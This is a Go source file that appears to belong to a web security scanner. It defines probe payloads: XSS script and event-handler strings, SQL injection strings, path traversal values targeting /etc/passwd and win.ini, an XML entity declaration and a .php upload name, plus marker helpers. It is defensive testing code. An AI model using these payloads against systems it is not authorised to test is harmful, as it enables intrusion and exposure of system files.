package probe

import (
	"strings"

	"github.com/google/uuid"
)

// Payload classes select both the injected values and how responses are read.
const (
	ClassXSS         = "xss"
	ClassSQL         = "sqli"
	ClassTraversal   = "traversal"
	ClassOversize    = "oversize"
	ClassInvalidJSON = "invalid-json"
	ClassContentType = "content-type"
	ClassXMLEntity   = "xml-entity"
	ClassUpload      = "upload"
	ClassClientCheck = "client-bypass"
)

// markerToken is replaced by the per-probe marker before sending.
const markerToken = "{{M}}"

// Payload is one value injected by a probe.
type Payload struct {
	Class string `json:"class"`
	Value string `json:"value"`
}

// Render substitutes the marker into the payload value.
func (p Payload) Render(marker string) string {
	return strings.ReplaceAll(p.Value, markerToken, marker)
}

// XSSPayloads carry a marker inside active markup so an unescaped
// reflection is executable by construction.
var XSSPayloads = []Payload{
	{Class: ClassXSS, Value: `<script>alert("{{M}}")</script>`},
	{Class: ClassXSS, Value: `"><img src=x onerror=alert("{{M}}")>`},
	{Class: ClassXSS, Value: `<svg/onload=alert("{{M}}")>`},
}

// SQLPayloads break out of quoted string contexts without modifying data.
var SQLPayloads = []Payload{
	{Class: ClassSQL, Value: `{{M}}'`},
	{Class: ClassSQL, Value: `' OR '1'='1`},
	{Class: ClassSQL, Value: `' UNION SELECT NULL--`},
	{Class: ClassSQL, Value: `") OR ("1"="1`},
}

// TraversalPayloads request well-known world-readable files.
var TraversalPayloads = []Payload{
	{Class: ClassTraversal, Value: `../../../../../../etc/passwd`},
	{Class: ClassTraversal, Value: `..%2f..%2f..%2f..%2f..%2fetc%2fpasswd`},
	{Class: ClassTraversal, Value: `..\..\..\..\windows\win.ini`},
}

// OversizePayloads exceed typical field limits.
var OversizePayloads = []Payload{
	{Class: ClassOversize, Value: strings.Repeat("A", 8000)},
}

// InvalidJSONPayloads violate any reasonable request schema.
var InvalidJSONPayloads = []Payload{
	{Class: ClassInvalidJSON, Value: `{"unexpected":"field","number":"abc","{{M}}":true}`},
}

// ContentTypePayloads send a body whose declared type does not match.
var ContentTypePayloads = []Payload{
	{Class: ClassContentType, Value: `sgap={{M}}`},
}

// XMLEntityPayloads declare an internal entity only. Expansion of the
// marker proves DTD processing without touching the filesystem.
var XMLEntityPayloads = []Payload{
	{Class: ClassXMLEntity, Value: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY sgap "{{M}}">]><r>&sgap;</r>`},
}

// UploadPayloads are inert text bodies with an executable extension.
var UploadPayloads = []Payload{
	{Class: ClassUpload, Value: `sgap-probe-{{M}}.php`},
}

// ClientCheckPayloads are values browsers would refuse for typed inputs.
var ClientCheckPayloads = []Payload{
	{Class: ClassClientCheck, Value: `invalid@@example`},
}

// NewMarker returns a unique, alphanumeric probe marker.
func NewMarker() string {
	id := strings.ReplaceAll(uuid.NewString(), "-", "")
	return "sgap" + id[:12]
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "..."
}
